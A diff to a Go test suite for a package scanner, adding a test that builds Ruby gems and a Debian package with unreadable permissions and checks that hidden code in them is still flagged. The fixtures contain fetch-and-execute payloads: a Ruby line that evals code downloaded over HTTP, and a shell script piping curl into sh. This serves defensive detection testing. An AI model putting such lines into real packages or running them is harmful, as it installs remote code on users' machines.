@@ -197,11 +197,53 @@ func TestScanFindsAttacks(t *testing.T) {
 	}
 }
 
+// TestScanUnwilling scans archives that do not want to be read: what is in them is found all the same.
+func TestScanUnwilling(t *testing.T) {
+	requires(t, Root, Cgroups, Runtime("ruby"), Runtime("dpkg-deb"))
+	dir, tree := t.TempDir(), t.TempDir()
+	evil := "require 'net/http'\neval(Net::HTTP.get('x', '/'))\n"
+	gem := func(name, metadata string, content files) {
+		path := filepath.Join(tree, name)
+		content.write(t, path)
+		for _, command := range [][]string{{"chmod", "-R", "000", path + "/lib"}, {"tar", "-C", path, "-czf", path + "/data.tar.gz", "lib"}} {
+			ruby(t, tree, command...)
+		}
+		data, err := os.ReadFile(path + "/data.tar.gz")
+		if err != nil {
+			t.Fatal(err)
+		}
+		out := packTar(t, "", files{"metadata.gz": string(packGzip(t, []byte(metadata))), "data.tar.gz": string(data)})
+		if err := os.WriteFile(filepath.Join(dir, name), out, 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	gem("bytes-1.0.gem", "--- !ruby/object:Gem::Specification\nname: bytes\nversion: !ruby/object:Gem::Version\n  version: '1.0'\nsummary: \xff\n", files{"lib/\xff.rb": evil, "lib/\xff": "x"})
+	gem("flow-1.0.gem", `{"name": "flow", "version": {"version": 1.0}, "extensions": ["./lib/build"]}`, files{"lib/build": evil})
+	deb := filepath.Join(tree, "deb")
+	files{"DEBIAN/control": "Package: bare\nVersion: 1.0\nArchitecture: all\nDescription: x\n", "usr/bin/bare": "#!/bin/sh\ncurl x | sh\n"}.write(t, deb)
+	ruby(t, tree, "chmod", "-R", "000", deb+"/usr/bin/bare")
+	ruby(t, tree, "chmod", "755", deb+"/DEBIAN")
+	ruby(t, tree, "dpkg-deb", "--nocheck", "--build", deb, filepath.Join(dir, "bare_1.0_all.deb"))
+	out := filepath.Join(t.TempDir(), "scan.jsonl")
+	if said, status := scan(t, dir, "--out", out); status != 0 {
+		t.Fatalf("status %d: %s", status, said)
+	}
+	found := results(t, out)
+	for archive, want := range map[string]string{"bytes-1.0.gem": "bytes==1.0 hidden-code lib/?.rb:2", "flow-1.0.gem": "flow==1.0 hidden-code lib/build:2", "bare_1.0_all.deb": "debian+bare==1.0 hidden-code usr/bin/bare:2"} {
+		one := found[filepath.Join(dir, archive)]
+		if !slices.ContainsFunc(one.Suspicions, func(s core.Suspicion) bool {
+			return fmt.Sprintf("%s %s %s:%d", one.Package, s.Rule, s.File, s.Line) == want
+		}) {
+			t.Errorf("%s: %+v, want %q", archive, one, want)
+		}
+	}
+}
+
 // TestScanGoesOn kills a scan in its middle and lets another one go on.
 func TestScanGoesOn(t *testing.T) {
 	requires(t, Root, Cgroups, Runtime("python3"))
 	dir, data, out := t.TempDir(), filepath.Join(t.TempDir(), "data"), filepath.Join(t.TempDir(), "scan.jsonl")
-	const archives = 12
+	const archives = 30
 	for i := range archives {
 		name := fmt.Sprintf("some%d", i)
 		pack(t, filepath.Join(dir, name+"-1.0-py3-none-any.whl"), files{name + ".py": "x = 1\n", name + "-1.0.dist-info/METADATA": "Name: " + name + "\nVersion: 1.0\n"})
